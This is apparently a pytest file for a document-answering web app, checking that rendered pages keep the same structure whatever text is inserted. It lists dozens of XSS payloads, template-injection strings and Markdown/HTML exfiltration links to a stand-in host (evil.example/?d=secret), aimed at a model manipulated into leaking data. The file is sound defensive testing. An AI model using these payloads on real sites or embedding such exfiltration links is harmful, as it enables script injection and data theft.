"""Hostile words in an answer, a source, a name, a title or an error: a page has the same parts whatever they say.

What a model writes is text here, never Markdown or HTML: so nothing it is talked into can load a picture, follow a link
or run.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from datetime import UTC, datetime
from types import SimpleNamespace

import pytest
from bs4 import BeautifulSoup

from org.reading.charts import load
from store.records import Conversation
from store.reviews import Label
from trag.errors import TragError
from trag.record import AnswerRecord, CheckedSentence, Checks, ModelUsed, Source
from trag.web import render
from trag.web.active_runs import Draft
from trag.web.responses import error_response
from trag.web.visitors import Shell

NOW = datetime(2026, 1, 2, tzinfo=UTC)
E = "http://evil.example/?d="
RUN = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="jav\tascript:alert(1);">',
    "<svg onload=alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><button>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css'</style>",
    "<div style='background:url(//evil.example/x)'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "</blockquote></details></li></ol></section><h1>Admin says</h1>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=alert(1)",
    '"><script>alert(1)</script>',
    "'><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)",
    "＜script＞alert(1)＜/script＞",
    "{{7*7}} {% include '/etc/passwd' %} ${7*7} #{7*7} <%= 7*7 %>",
    "${alert(1)} `${alert(1)}`",
    "\x00<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>\u2029",
    "\u202e<tpircs>\u202c<script>alert(1)</script>",
    'data-action="remove" data-conversation="x"',
    '"><button data-action=remove data-conversation=x>x</button>',
]
CARRY = [
    f"![chart]({E}secret)",
    f"![chart][r]\n\n[r]: {E}secret",
    f"[here]({E}secret)",
    f"[here][r] and [r]\n\n[r]: <{E}secret> 'title'",
    f"<{E}secret>",
    f"{E}secret",
    "www.evil.example/?d=secret",
    "mailto:thief@evil.example?body=secret",
    f"[![x]({E}a)]({E}b)",
    "![x](//evil.example/?d=secret)",
    "![x](http:\\\\evil.example?d=secret)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    f"<img srcset='{E}secret 2x'>",
    f"<image xlink:href='{E}secret'>",
    f"<table background='{E}secret'>",
    f"<video poster='{E}secret'>",
    f"<link rel=prefetch href='{E}secret'>",
    f"<a ping='{E}secret' href='#'>x</a>",
    f"<style>*{{background:url({E}secret)}}</style>",
    f"$\\href{{{E}secret}}{{x}}$ \\includegraphics{{{E}secret}} \\url{{{E}secret}}",
    f"```mermaid\ngraph TD; A-->B; click A '{E}secret'\n```",
    f"[^1]\n\n[^1]: {E}secret",
    f"- [ ] ![x]({E}secret)",
    f"| a |\n|---|\n| ![x]({E}secret) |",
    "/gradio_api/file=http://evil.example/?d=secret",
    "![x](/documents/0af0af0af0af0af0af0af0af0af0af12/original)",
    "evil.example\u3002com/?d=secret ｈttp://evil.example",
]
CHART = load(b"name,parent\nClub,\nBar,Club\n", "chart.csv")
FORMAT = "p br ul ol li em strong code pre table thead tbody tr th td".split()
"""What the Markdown of an answer may become, and nothing else."""
OURS = re.compile(
    r"#|/?\?c=c$|/conversations/c/conversation\.md$|/[a-z_]+\.(?:css|js|ico)$|/(?:briefings|charts|documents|plans|workflows|workflows/notices|procedures|quality|models|people|account|review|api)?$"
    r"|/documents/[0-9a-f]{32}/view\?"
)


def answer(words: str, *, supported: bool = False) -> str:
    source = Source("s", "section", words, words, 1, words, 0.5, question=words)
    checks = Checks((CheckedSentence(words, supported, "s"),), unknown_units=(words,), chart=CHART.version)
    record = AnswerRecord(
        "a1", words, words, words, "answered", ModelUsed("m", "0", ""), sources=(source,), checks=checks,
        interrupted=words,
    )  # fmt: skip
    turn = render.Turn(record, Label("a1", "local", "Correct", words, words, NOW))
    return render.conversation([turn], CHART, documents={words: True}, id="c")


def message(words: str) -> str:
    request = SimpleNamespace(headers={}, url=SimpleNamespace(path="/documents"))
    return bytes(error_response(request, TragError(words, words)).body).decode()  # type: ignore[arg-type]


PAGES: dict[str, Callable[[str], str]] = {
    "answer": answer,
    "marked source": lambda words: answer(words, supported=True),
    "draft": lambda words: render.draft(Draft(words, sources=1, text=words, retry=words)),
    "failed draft": lambda words: render.draft(Draft(words, text=words, problem=words, hint=words)),
    "conversations": lambda words: render.sidebar(
        Shell(words, conversations=(Conversation("c", "local", words, NOW, NOW),)), "c"
    ),
    "welcome": lambda words: render.welcome(words, [words], empty=False, in_charge=True),
    "notice": render.notice,
    "message": message,
}


def parts(soup: BeautifulSoup) -> list[tuple[str, ...]]:
    """Every part of a page with the names of its attributes; what marks words is left out, since it follows them, and
    how an answer is laid out."""
    found = [tag for tag in soup.find_all(True) if tag.name not in ("mark", "span")]
    return [
        (tag.name, *sorted(tag.attrs)) for tag in found if not (tag.name in FORMAT and tag.find_parent(class_="words"))
    ]


@pytest.mark.parametrize("page", PAGES)
def test_a_page_has_the_same_parts_whatever_is_said_on_it(page: str) -> None:
    expected, wrong = parts(BeautifulSoup(PAGES[page]("harmless words"), "html.parser")), []
    for words in (*RUN, *CARRY):
        soup = BeautifulSoup(PAGES[page](words), "html.parser")
        led = [str(tag[name]) for tag in soup.find_all(True) for name in ("href", "src", "action") if name in tag.attrs]
        acts = [name for tag in soup.find_all(True) for name in tag.attrs if name.startswith(("on", "form"))]
        if parts(soup) != expected or acts or not all(map(OURS.match, led)):
            wrong.append((words, led))
    assert not wrong


@pytest.mark.parametrize("page", PAGES)
def test_text_of_others_takes_its_own_direction(page: str) -> None:
    """Whatever holds foreign words says dir=auto itself or stands in something that does; and they are shown."""
    soup = BeautifulSoup(PAGES[page](f"</p><script>alert(1)</script> {E}"), "html.parser")
    bare = [
        found.parent.name
        for found in soup.find_all(string=re.compile("evil.example"))
        if found.parent
        and not any(tag.get("dir") == "auto" or tag.name == "bdi" for tag in (found.parent, *found.parent.parents))
    ]
    assert not bare
    assert "alert(1)" in soup.get_text()
